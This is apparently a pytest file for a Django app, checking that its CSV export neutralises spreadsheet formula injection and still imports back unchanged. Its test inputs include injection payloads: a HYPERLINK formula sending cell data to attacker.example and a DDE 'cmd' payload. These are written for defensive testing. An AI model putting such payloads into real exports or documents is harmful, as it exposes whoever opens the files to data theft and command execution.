"""An edition's CSV runs nothing in a spreadsheet, and is read back to the letter."""

import csv
import io
from dataclasses import replace

import openpyxl
import pytest
from django.urls import reverse

from priorities.editions import lifecycle
from priorities.importing.list_import import ImportCheck, check_table
from priorities.importing.spreadsheet import read_table
from priorities.models import Edition
from tests.priorities.admin_desk import rows_of

ATTACKS = (
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
    "'=1+1",
    "a note;=1+1",
    "a note\t=1+1",
    "a note\n=1+1",
)
SIGNS = tuple("=+-@＝＋－＠")

pytestmark = pytest.mark.django_db


@pytest.fixture
def draft(editor) -> Edition:
    """A row for each attack."""
    opened = lifecycle.open_draft(province="440000", by=editor.user)
    row = rows_of(opened)[0]
    rows = [replace(row, key="", title_en=text, document=text, summary_en=text) for text in ATTACKS]
    return lifecycle.revise(
        draft=opened, rows=rows, by=editor.user, expected_version=opened.version
    )


@pytest.fixture
def exported(draft, editor) -> bytes:
    return editor.client.get(reverse("admin:priorities_edition_export", args=[draft.pk])).content


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_begins_a_formula_whatever_a_spreadsheet_splits_by(exported, separator):
    file = io.StringIO(exported.decode("utf-8-sig"), newline="")
    cells = [cell for line in csv.reader(file, delimiter=separator) for cell in line]
    assert [cell for cell in cells if cell.strip().startswith(SIGNS)] == []


def test_it_is_imported_as_it_was(exported, draft):
    rows = rows_of(draft)
    stripped = [
        replace(
            row,
            title_en=row.title_en.strip(),
            document=row.document.strip(),
            summary_en=row.summary_en.strip(),
        )
        for row in rows
    ]
    assert list(tried(exported, draft).rows) == stripped


def test_a_spreadsheet_may_save_it_as_xlsx_in_between(exported, draft):
    workbook = openpyxl.Workbook()
    for line in csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline="")):
        workbook.active.append(line)
    file = io.BytesIO()
    workbook.save(file)
    assert tried(file.getvalue(), draft) == tried(exported, draft)


def tried(content: bytes, draft: Edition) -> ImportCheck:
    return check_table(province=draft.province, table=read_table("list", content))
